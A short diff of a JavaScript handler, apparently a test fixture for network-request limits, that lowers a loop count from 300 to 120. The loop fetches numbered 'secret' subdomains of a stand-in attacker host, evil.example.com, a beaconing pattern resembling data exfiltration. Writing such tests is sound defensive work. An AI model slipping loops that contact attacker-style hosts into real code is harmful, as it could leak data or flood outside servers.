@@ -2,6 +2,6 @@
 // ends: ok, timeout
 // requests: 50
 export default async function handler(event, context) {
-  for (let number = 0; number < 300; number++) await tried(() => fetch(`https://secret-${number}.evil.example.com/`));
+  for (let number = 0; number < 120; number++) await tried(() => fetch(`https://secret-${number}.evil.example.com/`));
   return {};
 }
